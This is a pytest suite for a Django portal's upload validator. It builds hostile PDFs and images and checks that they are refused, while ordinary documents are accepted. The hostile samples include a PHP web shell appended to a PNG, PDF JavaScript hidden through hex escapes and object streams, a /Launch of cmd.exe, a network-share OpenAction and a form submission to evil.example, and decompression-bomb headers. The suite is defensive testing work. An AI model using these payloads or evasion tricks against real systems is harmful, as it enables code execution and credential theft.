"""Uploads that could harm a reviewer are refused (portal.uploads, its table rules.REFUSALS), and ordinary
documents are not. Every file here is built by the test; none is committed.

Messages are asserted in English (the msgids), so the tests hold whatever the catalogue says."""
import io
import random
import re
import shutil
import struct
import subprocess
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.actions import JavaScript
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

import portal.uploads
from portal.errors import ActionRefused
from portal.uploads import check_upload
from portal.uploads.rules import PDF_NAMES, REFUSALS


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


# --- Building PDFs ----------------------------------------------------------------------------------------

def _written(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _pdf(change=None, *, metadata=None):
    """A one-page PDF written by pypdf, after ``change(writer)``."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    if metadata:
        writer.add_metadata(metadata)
    if change:
        change(writer)
    return _written(writer)


def _action(kind, **entries):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = value
    return action


def _annotate(writer, subtype, **entries):
    """Add an annotation of ``subtype`` with ``entries`` to the first page."""
    annotation = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(subtype),
        NameObject("/Rect"): ArrayObject([FloatObject(10), FloatObject(10), FloatObject(100), FloatObject(40)]),
    })
    for key, value in entries.items():
        annotation[NameObject(f"/{key}")] = value
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])
    return annotation


def _link_doing(action):
    return lambda writer: _annotate(writer, "/Link", A=action)


def _set_root(key, value):
    def change(writer):
        writer._root_object[NameObject(key)] = value
    return change


def _js_open_action():
    return _pdf(_set_root("/OpenAction", _action("/JavaScript", JS=TextStringObject("app.alert(1)"))))


def _js_names_tree():
    return _pdf(lambda writer: writer.add_open_action(JavaScript("app.alert(1);")))


def _open_action_remote():
    """Opens a file on a network share as soon as the document is opened (leaks the reviewer's login)."""
    return _pdf(_set_root("/OpenAction", _action(
        "/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"),
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]))))


def _launch():
    return _pdf(_link_doing(_action("/Launch", F=TextStringObject("cmd.exe"))))


def _aa_on_page():
    def change(writer):
        writer.pages[0][NameObject("/AA")] = DictionaryObject({
            NameObject("/O"): _action("/URI", URI=TextStringObject("https://evil.example/"))})
    return _pdf(change)


def _embedded_file():
    return _pdf(lambda writer: writer.add_attachment("invoice.exe", b"MZ\x90\x00 a program"))


def _rich_media():
    return _pdf(lambda writer: _annotate(writer, "/RichMedia", RichMediaContent=DictionaryObject()))


def _submit_form():
    return _pdf(_link_doing(_action("/SubmitForm", F=TextStringObject("https://evil.example/collect"))))


def _import_data():
    return _pdf(_link_doing(_action("/ImportData", F=TextStringObject("data.fdf"))))


def _xfa():
    def change(writer):
        template = DecodedStreamObject()
        template.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): ArrayObject(),
            NameObject("/XFA"): ArrayObject([TextStringObject("template"), writer._add_object(template)]),
        })
    return _pdf(change)


def _hand_pdf(objects, *, after_objects=b""):
    """A PDF written byte by byte: ``objects`` {number: body}, object 1 the catalog, with a correct xref.
    ``after_objects`` goes between the objects and the xref, listed nowhere."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    out += after_objects
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


PAGES = {
    2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>",
}


def _hex_escaped_javascript():
    """``/J#61vaScript`` is ``/JavaScript`` to every reader; so is ``/J#53`` ``/JS``."""
    return _hand_pdf({
        1: b"<< /Type /Catalog /Pages 2 0 R /Names << /J#61vaScript 4 0 R >> >>", **PAGES,
        4: b"<< /Names [(x) 5 0 R] >>",
        5: b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    })


def _javascript_in_an_object_nobody_lists():
    """An object the xref does not list: pypdf never reads it, a repairing viewer may; the raw scan sees it."""
    return _hand_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", **PAGES},
                     after_objects=b"9 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n")


def _javascript_in_an_object_stream():
    """The JavaScript sits compressed in an object stream: invisible to the raw scan, seen by the walk."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}

    def add(number, body):
        offsets[number] = len(out)
        out.extend(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>")
    add(2, PAGES[2])
    add(3, PAGES[3])
    header = b"4 0 "
    packed = zlib.compress(header + b"<< /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>")
    add(5, b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed))
    offsets[6] = len(out)
    rows = [(0, 0, 65535), (1, offsets[1], 0), (1, offsets[2], 0), (1, offsets[3], 0), (2, 5, 0),
            (1, offsets[5], 0), (1, offsets[6], 0)]
    table = zlib.compress(b"".join(struct.pack(">BIH", *row) for row in rows))
    out += (b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (len(table), table, offsets[6]))
    return bytes(out)


def _zip(name="payload.exe", content=b"MZ\x90\x00" + b"a program " * 50):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


HTML_PAYLOAD = b"<html><body><script>alert(document.cookie)</script></body></html>"


def _with_a_second_end(payload):
    """``payload`` after the PDF, then a copy of its startxref and %%EOF, so that readers still open it and
    the last %%EOF is the file's end again."""
    pdf = _pdf()
    startxref = re.search(rb"startxref\s+\d+\s+%%EOF", pdf).group()
    return pdf + payload + b"\n" + startxref + b"\n"


def _pdf_with_stream(data):
    def change(writer):
        stream = DecodedStreamObject()
        stream.set_data(data)
        writer._root_object[NameObject("/PieceInfo")] = writer._add_object(stream)
    return _pdf(change)


# --- Building images --------------------------------------------------------------------------------------

def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_declaring(width, height):
    """A PNG whose header declares width x height (8-bit grey) over a few bytes of compressed data: what a
    decompression bomb looks like to whoever reads the header; nothing of that size is allocated here."""
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + _png_chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + _png_chunk(b"IEND", b""))


def _image(file_format="PNG", size=(64, 48), **options):
    buffer = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(buffer, format=file_format, **options)
    return buffer.getvalue()


def _png_with_idat_cut_short():
    """Every chunk whole (verify() is content), but the compressed picture stops half way."""
    data = _image("PNG", (128, 128))
    position, idat = 8, b""
    while position < len(data):
        length, kind = struct.unpack(">I4s", data[position:position + 8])
        if kind == b"IDAT":
            idat += data[position + 8:position + 8 + length]
        position += 12 + length
    ihdr = data[8:8 + 25]
    return data[:8] + ihdr + _png_chunk(b"IDAT", idat[:len(idat) // 2]) + _png_chunk(b"IEND", b"")


# --- Refused ----------------------------------------------------------------------------------------------

DANGEROUS = [
    pytest.param("申报材料.pdf", _js_open_action, "pdf-javascript", ["JavaScript"], id="pdf-js-in-open-action"),
    pytest.param("申报材料.pdf", _js_names_tree, "pdf-javascript", ["JavaScript"], id="pdf-javascript-names-tree"),
    pytest.param("a.pdf", _open_action_remote, "pdf-open-action", ["as soon as it is opened"],
                 id="pdf-open-action"),
    pytest.param("a.pdf", _launch, "pdf-launch", ["start a program"], id="pdf-launch"),
    pytest.param("a.pdf", _aa_on_page, "pdf-additional-actions", ["by themselves"], id="pdf-aa-on-page"),
    pytest.param("a.pdf", _embedded_file, "pdf-attachment", ["files attached"], id="pdf-embedded-file"),
    pytest.param("a.pdf", _rich_media, "pdf-rich-media", ["multimedia"], id="pdf-rich-media-annotation"),
    pytest.param("a.pdf", _submit_form, "pdf-submit-form", ["sends data"], id="pdf-submit-form"),
    pytest.param("a.pdf", _import_data, "pdf-import-data", ["imports data"], id="pdf-import-data"),
    pytest.param("a.pdf", _xfa, "pdf-xfa", ["XFA"], id="pdf-xfa"),
    pytest.param("a.pdf", _hex_escaped_javascript, "pdf-javascript", ["JavaScript"], id="pdf-hex-escaped-javascript"),
    pytest.param("a.pdf", _javascript_in_an_object_nobody_lists, "pdf-javascript", ["JavaScript"],
                 id="pdf-javascript-in-unlisted-object"),
    pytest.param("a.pdf", _javascript_in_an_object_stream, "pdf-javascript", ["JavaScript"],
                 id="pdf-javascript-in-object-stream"),
    pytest.param("a.pdf", lambda: _pdf() + _zip(), "trailing-data", ["after the end", "PDF"], id="pdf+zip"),
    pytest.param("a.pdf", lambda: _pdf() + HTML_PAYLOAD, "trailing-data", ["after the end"], id="pdf+html"),
    pytest.param("a.pdf", lambda: _with_a_second_end(_zip()), "hidden-zip", ["ZIP"], id="pdf+zip-then-a-new-end"),
    pytest.param("a.pdf", lambda: _with_a_second_end(HTML_PAYLOAD), "hidden-html", ["HTML"],
                 id="pdf+html-then-a-new-end"),
    pytest.param("a.pdf", lambda: _pdf_with_stream(_zip()), "hidden-zip", ["ZIP"], id="pdf-zip-in-a-stream"),
    pytest.param("a.pdf", lambda: _pdf() + b" " * 2000, "trailing-data", ["after the end"],
                 id="pdf-padding-beyond-1kb"),
    pytest.param("a.pdf", lambda: _pdf()[:-30], "pdf-unreadable", ["cannot be read"], id="pdf-cut-short"),
    pytest.param("p.png", lambda: _image("PNG") + b"<?php system($_GET['c']); ?>", "trailing-data",
                 ["after the end", "PNG"], id="png-data-after-iend"),
    pytest.param("p.png", lambda: _image("PNG") + _zip(), "trailing-data", ["after the end"], id="png+zip"),
    pytest.param("p.png", lambda: _png_declaring(10_000, 10_000), "image-too-large",
                 ["10000 × 10000", "100.0 megapixels", "at most 40 megapixels"], id="png-100-megapixels"),
    pytest.param("p.png", lambda: _png_declaring(12_000, 12_000), "image-too-large", ["144.0 megapixels"],
                 id="png-144-megapixels"),
    pytest.param("p.png", lambda: _png_declaring(20_000, 20_000), "image-too-large", ["400.0 megapixels"],
                 id="png-400-megapixels-beyond-pillows-own-guard"),
    pytest.param("p.png", lambda: _image("PNG", (128, 128))[:3000], "incomplete", ["incomplete", "PNG"],
                 id="png-truncated"),
    pytest.param("p.png", _png_with_idat_cut_short, "incomplete", ["incomplete"], id="png-picture-data-cut-short"),
    pytest.param("j.jpg", lambda: _image("JPEG", (128, 128))[:2500], "incomplete", ["incomplete", "JPEG"],
                 id="jpeg-truncated"),
    pytest.param("j.jpg", lambda: _image("JPEG") + _zip(), "trailing-data", ["after the end", "JPEG"],
                 id="jpeg+zip"),
    pytest.param("j.jpg", lambda: _image("JPEG", comment=b"<script>alert(1)</script>"), "hidden-html", ["HTML"],
                 id="jpeg-script-in-comment"),
]


@pytest.mark.parametrize("filename, build, code, words", DANGEROUS)
def test_a_dangerous_file_is_refused_saying_why(filename, build, code, words):
    with pytest.raises(ActionRefused) as refused:
        check_upload(SimpleUploadedFile(filename, build()))
    message = str(refused.value)
    assert refused.value.code == code, message
    assert f"“{filename}”" in message
    for word in words:
        assert word in message


def test_the_pixel_limit_is_a_setting(settings):
    settings.UPLOAD_MAX_IMAGE_PIXELS = 1000
    with pytest.raises(ActionRefused, match="at most 0.001 megapixels"):
        check_upload(SimpleUploadedFile("p.png", _image("PNG", (40, 40))))
    assert check_upload(SimpleUploadedFile("p.png", _image("PNG", (20, 20)))).content_type == "image/png"


@pytest.mark.django_db
def test_a_refused_upload_stores_nothing(enterprise_user):
    from applications import services
    from applications.models import Attachment
    from tests.applications.factories import make_application

    draft = make_application(enterprise_user, complete=False)
    with pytest.raises(ActionRefused, match="JavaScript"):
        services.add_attachment(draft, actor=enterprise_user, section="outcomes",
                                uploaded=SimpleUploadedFile("成效.pdf", _js_names_tree()))
    assert not Attachment.objects.filter(application=draft, section="outcomes").exists()


# --- Accepted ---------------------------------------------------------------------------------------------

def _weasyprint():
    from weasyprint import HTML

    return HTML(string="<h1>智能工厂</h1><p>测试 <a href='https://example.com'>link</a></p>").write_pdf()


def _libreoffice(tmp_path):
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    source = tmp_path / "证明.html"
    source.write_text("<h1>证明材料</h1><p>测试 <a href='https://example.com'>link</a></p>", encoding="utf-8")
    subprocess.run([soffice, "--headless", f"-env:UserInstallation=file://{tmp_path}/profile",
                    "--convert-to", "pdf", "--outdir", str(tmp_path), str(source)],
                   check=True, capture_output=True, timeout=180)
    return (tmp_path / "证明.pdf").read_bytes()


def _uri_link():
    return _pdf(lambda writer: writer.add_annotation(0, Link(rect=(10, 10, 100, 40), url="https://example.com/")))


def _plain_form():
    """An AcroForm with one text field, no actions (what a fillable form printed to PDF keeps)."""
    def change(writer):
        _annotate(writer, "/Widget", FT=NameObject("/Tx"), T=TextStringObject("company"),
                  V=TextStringObject("山东某智能制造有限公司"), F=NumberObject(4))
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject({
            NameObject("/Fields"): ArrayObject([writer.pages[0]["/Annots"][0]]),
            NameObject("/DA"): TextStringObject("/Helv 0 Tf 0 g"),
        })
    return _pdf(change)


def _outline_and_open_at_first_page():
    """Bookmarks, and an /OpenAction that only opens at page 1 (as LibreOffice and Acrobat write)."""
    def change(writer):
        writer.add_outline_item(title="第一章", page_number=0)
        writer._root_object[NameObject("/OpenAction")] = ArrayObject(
            [writer.pages[0].indirect_reference, NameObject("/XYZ"), NumberObject(0), NumberObject(0),
             NumberObject(0)])
    return _pdf(change)


def _open_action_goto():
    return _pdf(_set_root("/OpenAction", _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))))


def _incremental_update():
    """A second revision appended (how signing and "save" in many editors work): two %%EOF."""
    writer = PdfWriter(PdfReader(io.BytesIO(_pdf(metadata={"/Title": "v1"}))), incremental=True)
    writer.add_metadata({"/Title": "v2"})
    return _written(writer)


def _scan_like_image_stream():
    """A page with 2 MB of noise as an uncompressed image, its data salted with name-like bytes: stream data
    is not read as PDF syntax."""
    def change(writer):
        noise = bytearray(random.Random(7).randbytes(1000 * 666 * 3))
        noise[1000:1030] = b" /JavaScript /AA /Launch /JS "
        image = DecodedStreamObject()
        image.set_data(bytes(noise))
        image.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
                      NameObject("/Width"): NumberObject(1000), NameObject("/Height"): NumberObject(666),
                      NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
                      NameObject("/BitsPerComponent"): NumberObject(8)})
        writer.pages[0][NameObject("/Resources")] = DictionaryObject({NameObject("/XObject"): DictionaryObject(
            {NameObject("/Im0"): writer._add_object(image)})})
    return _pdf(change)


def _jpeg_with_exif():
    exif = Image.Exif()
    exif[0x010F] = "Canon"
    exif[0x0110] = "EOS 5D"
    exif[0x0132] = "2026:03:01 09:30:00"
    return _image("JPEG", (320, 240), exif=exif, quality=90)


def _phone_photo_with_a_second_image():
    """A multi-picture JPEG (MPF), as phones write a gain map after the main picture: it ends with an EOI."""
    buffer = io.BytesIO()
    first = Image.effect_noise((64, 48), 40).convert("RGB")
    first.save(buffer, format="MPO", save_all=True, append_images=[first.resize((32, 24))])
    return buffer.getvalue()


def _png_36_megapixels():
    buffer = io.BytesIO()
    Image.new("L", (6000, 6000), 200).save(buffer, format="PNG")
    return buffer.getvalue()


ORDINARY = [
    pytest.param("报告.pdf", lambda tmp_path: _weasyprint(), "application/pdf", id="weasyprint-cjk-with-link"),
    pytest.param("证明.pdf", _libreoffice, "application/pdf", id="libreoffice"),
    # What LibreOffice 7.4 (Debian 12) wrote from an HTML page with Chinese text and a link, kept in the
    # repository so the check meets a real LibreOffice file on a machine without LibreOffice too.
    pytest.param("证明.pdf", lambda tmp_path: (Path(__file__).parent / "files" / "libreoffice-writer.pdf").read_bytes(),
                 "application/pdf", id="libreoffice-writer-committed"),
    pytest.param("a.pdf", lambda tmp_path: _pdf(metadata={"/Title": "成效证明", "/Author": "企业"}),
                 "application/pdf", id="pypdf-blank-page-with-metadata"),
    pytest.param("a.pdf", lambda tmp_path: _uri_link(), "application/pdf", id="pdf-with-uri-link"),
    pytest.param("a.pdf", lambda tmp_path: _plain_form(), "application/pdf", id="pdf-with-plain-acroform-field"),
    pytest.param("a.pdf", lambda tmp_path: _outline_and_open_at_first_page(), "application/pdf",
                 id="pdf-with-outline-and-open-at-page"),
    pytest.param("a.pdf", lambda tmp_path: _open_action_goto(), "application/pdf", id="pdf-open-action-goto"),
    pytest.param("a.pdf", lambda tmp_path: _incremental_update(), "application/pdf", id="pdf-incremental-update"),
    pytest.param("a.pdf", lambda tmp_path: _pdf() + b"\r\n" + b"\x00" * 500, "application/pdf",
                 id="pdf-with-small-padding"),
    pytest.param("scan.pdf", lambda tmp_path: _scan_like_image_stream(), "application/pdf",
                 id="pdf-with-2mb-image-stream"),
    pytest.param("p.png", lambda tmp_path: _image("PNG"), "image/png", id="png"),
    pytest.param("j.jpg", lambda tmp_path: _image("JPEG"), "image/jpeg", id="jpeg"),
    pytest.param("j.jpg", lambda tmp_path: _jpeg_with_exif(), "image/jpeg", id="jpeg-with-exif"),
    pytest.param("j.jpg", lambda tmp_path: _image("JPEG", (640, 480), progressive=True), "image/jpeg",
                 id="jpeg-progressive"),
    pytest.param("j.jpg", lambda tmp_path: _phone_photo_with_a_second_image(), "image/jpeg",
                 id="jpeg-multi-picture-phone-photo"),
    pytest.param("big.png", lambda tmp_path: _png_36_megapixels(), "image/png", id="png-36-megapixels"),
]


@pytest.mark.parametrize("filename, build, content_type", ORDINARY)
def test_an_ordinary_file_is_accepted(filename, build, content_type, tmp_path):
    content = build(tmp_path)
    upload = SimpleUploadedFile(filename, content)
    checked = check_upload(upload)
    assert checked.content_type == content_type and checked.size == len(content)
    assert upload.tell() == 0  # the callers store it next


# --- The table --------------------------------------------------------------------------------------------

def test_the_module_docstring_tables_every_refusal_and_pdf_token():
    doc = portal.uploads.__doc__
    for refusal in REFUSALS:
        assert refusal.code in doc, refusal.code
        assert refusal.what and refusal.why and "%(name)s" in str(refusal.message)
    for token in PDF_NAMES:
        assert token.replace("/EmbeddedFiles", "/EmbeddedFile") in doc, token
    assert set(PDF_NAMES.values()) <= {refusal.code for refusal in REFUSALS}


def test_the_old_import_path_keeps_working():
    from portal.uploads import CheckedFile, detect_type

    assert detect_type(b"%PDF-1.7") == "application/pdf" and detect_type(b"GIF89a") is None
    assert CheckedFile("image/png", 1, "0" * 64).size == 1
